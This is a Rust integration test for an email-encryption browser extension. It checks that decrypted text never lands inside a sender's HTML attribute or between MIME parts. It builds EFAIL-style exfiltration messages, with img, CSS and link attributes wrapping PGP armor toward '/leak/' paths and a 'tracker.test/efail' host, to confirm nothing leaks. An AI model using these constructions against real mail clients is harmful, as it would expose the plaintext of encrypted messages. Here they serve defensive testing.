//! HTML around sealed text: the plaintext must never come to stand inside somebody else's
//! attribute.

use anyhow::Result;
use extension_tests::gmail::{File, HOST, Message};
use extension_tests::person::message_text;
use letterlock_tests::page::{id, id_with};

use crate::stage::{ALICE, SECRET, Stage, from_carol};

pub(super) async fn play(stage: &Stage) -> Result<()> {
    around_in_the_page(stage).await?;
    around_in_mime(stage).await?;
    stage.nothing_leaked().await
}

/// The page shows the sender's HTML: an attribute is open before the armor and closed after it.
async fn around_in_the_page(stage: &Stage) -> Result<()> {
    let alice = &stage.alice;
    let sealed = stage
        .carol
        .seal(ALICE, &format!("{SECRET} in a letter"))
        .await?;
    // The page's own policy lets it ask its own host; that is what the listener must see.
    let mark = stage.web.mark();
    let swallowed = format!("<img src=\"https://{HOST}/leak/{sealed}\">");
    let between = format!(
        "<style>div{{background:url(https://{HOST}/leak/style)}}</style>\
         <a href='https://{HOST}/leak/{}'><img src=https://{HOST}/leak/picture></a><pre>{sealed}</pre>",
        "x".repeat(20)
    );
    let first = stage.gmail.deliver(Message {
        html: Some(swallowed),
        ..from_carol(String::new())
    });
    alice.open_thread(ALICE, &first).await?;
    alice
        .page
        .until("the page's own request", async || {
            let found = stage.web.since(mark);
            Ok(found
                .iter()
                .any(|asked| asked.path.starts_with("/leak/"))
                .then_some(()))
        })
        .await?;
    // What is no text of the page is no armor in it.
    assert!(
        !alice
            .page
            .shows(extension_tests::frames::ours("reader"))
            .await?
    );
    stage
        .open_mail(Message {
            html: Some(between),
            ..from_carol(String::new())
        })
        .await?;
    let text = message_text(&alice.page).await?;
    assert!(text.contains(SECRET), "{text}");
    assert!(!text.contains("leak"), "{text}");
    alice.leave().await
}

/// A sealed part deep in somebody's MIME is a file: only the root of a message is opened, and its
/// words never stand between the parts around it.
async fn around_in_mime(stage: &Stage) -> Result<()> {
    let alice = &stage.alice;
    let sealed = stage
        .carol
        .seal(
            ALICE,
            &format!("Content-Type: text/html\r\n\r\n{SECRET}\r\n"),
        )
        .await?;
    let entity = format!(
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n\
         --b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://tracker.test/efail/\r\n\
         --b\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=c\r\n\r\n\
         --c\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\
         --c\r\nContent-Type: application/octet-stream\r\n\r\n{sealed}\r\n--c--\r\n\
         --b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n"
    );
    let whole = stage.carol.seal(ALICE, &entity).await?;
    for data in [entity.into_bytes(), whole.into_bytes()] {
        let mark = stage.web.mark();
        let thread = stage.gmail.deliver(Message {
            files: vec![File {
                name: "encrypted.asc".to_owned(),
                media_type: "application/octet-stream".to_owned(),
                data,
            }],
            ..from_carol(String::new())
        });
        alice.open_thread(ALICE, &thread).await?;
        alice.enter("reader", 0).await?;
        let done = "[data-state=\"open\"],[data-testid=\"reader\"][data-state=\"failed\"]";
        alice.page.see(id_with("reader", done)).await?;
        if alice.page.shows(id("show-pictures")).await? {
            stage.press("reader", "show-pictures").await?;
        }
        let shown = stage
            .script(
                "const frame = document.querySelector('[data-testid=\"message-frame\"]'); \
                 return document.body.innerText + (frame?.contentDocument?.body?.innerHTML ?? '')",
            )
            .await?;
        assert!(!shown.to_string().contains(SECRET), "{shown}");
        alice.leave().await?;
        let asked = stage.tracked(mark);
        assert!(
            !asked
                .iter()
                .any(|path| path.contains("BEGIN") || path.contains(SECRET)),
            "{asked:?}"
        );
    }
    Ok(())
}
